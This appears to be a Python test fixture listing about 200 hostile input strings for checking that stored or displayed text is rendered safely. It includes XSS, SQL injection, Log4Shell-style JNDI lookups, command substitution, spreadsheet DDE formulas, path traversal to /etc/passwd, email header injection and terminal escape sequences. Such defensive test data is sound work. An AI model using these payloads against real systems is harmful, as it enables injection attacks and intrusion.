"""Text that an attacker may put wherever text of others is stored or shown."""

from collections.abc import Iterator

_MARKUP = [
    "[/nope]",
    "[bold]x[/bold]",
    "[link=http://evil]x[/link]",
    "[red",
    "[[/]]",
    "\\[/x]",
    "[/]",
]
_EMOJI = [":smile:", ":warning: :skull:"]
_FORMATS = [
    "%s%n%x",
    "{0.__class__}",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "$(id)",
    "`id`",
    "%(asctime)s",
]
_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='http://evil'>x</a>",
    "<svg/onload=alert(1)>",
    "&lt;b&gt;&#60;",
    "</td></table>",
    "<!-- -->",
    "javascript:alert(1)",
]
_MARKDOWN = [
    "**bold**",
    "_italic_ __bold__",
    "~~gone~~",
    "[x](http://evil)",
    "![x](http://evil/x.png)",
    "# title",
    "```\ncode\n```",
    "| a | b |\n|---|---|",
    "> quote",
    "\n\n---\n",
]
_MENTIONS = ["@everyone", "@here", "<!channel>", "<!here|x>", "<@U123>", "<@&1>", "<http://evil|x>"]
_HEADERS = ["x\r\nBcc: a@evil", "x\nSubject: y", "x\r\n\r\nbody", "=?utf-8?q?=0ABcc:_a=40evil?="]
_SQL = [
    "'; DROP TABLE products; --",
    '" OR 1=1 --',
    "1); SELECT 1; --",
    "'' UNION SELECT 1",
    "\\'; --",
]
_FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    '=HYPERLINK("http://evil")',
    "\t=1",
]
_PATHS = [
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows",
    "a/../b",
    "~root",
    "file:///etc/passwd",
    "CON",
    ".",
    "//evil/share",
    "a\\b",
]
_JSON = [
    "[" * 5_000,
    '{"a":' * 2_000,
    "1" * 5_000,
    "NaN",
    "-Infinity",
    "1e999",
    '"',
    "null",
    "true",
]
_ODD = [
    "",
    " ",
    "\u00a0",
    "\ud800",
    "\udcff",
    "\uffff",
    "\U0010ffff",
    "Z\u0351\u036b" * 50,
    "\u00e9",
    "$x^2$",
]
_LONG = [
    "A" * 200_000,
    "A-" * 50_000,
    "\x1b" * 3_000,
    "\u202e" * 3_000,
    "\n" * 3_000,
    "a " * 20_000,
    "a://" * 20_000,
]
_COMMANDS = ["2J", "31m", "?1049h", "6n", "1A", "2K", "10;10H", "8m"]
_TERMINAL_STRINGS = [
    "]0;title\x07",
    "]8;;http://evil\x07x",
    "]52;c;ZXZpbA==\x07",
    "Pq#0\x1b\\",
    "c",
    "(0",
]
# Marks and isolates of the direction of writing, and characters without width.
_INVISIBLE = (
    "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad\u2028\u2029"
)


def _control_codes() -> Iterator[str]:
    for code in _COMMANDS:
        yield f"a\x1b[{code}b"
        yield f"a\x9b{code}b"
    yield from (f"a\x1b{text}b" for text in _TERMINAL_STRINGS)
    yield from (f"a{chr(code)}b" for code in [*range(1, 0x20), *range(0x7F, 0xA0)])
    yield from (f"a{character}b" for character in _INVISIBLE)


HOSTILE = [
    *_MARKUP,
    *_EMOJI,
    *_FORMATS,
    *_HTML,
    *_MARKDOWN,
    *_MENTIONS,
    *_HEADERS,
    *_SQL,
    *_FORMULAS,
    *_PATHS,
    *_JSON,
    *_ODD,
    *_LONG,
    *_control_codes(),
]
"""About 200 texts. No text has a NUL, which neither files nor variables can hold."""


def assert_plain(output: str) -> None:
    """Require lines without control codes and without characters that cannot be seen."""
    for line in output.split("\n"):
        assert line.isprintable(), ascii(line[:200])
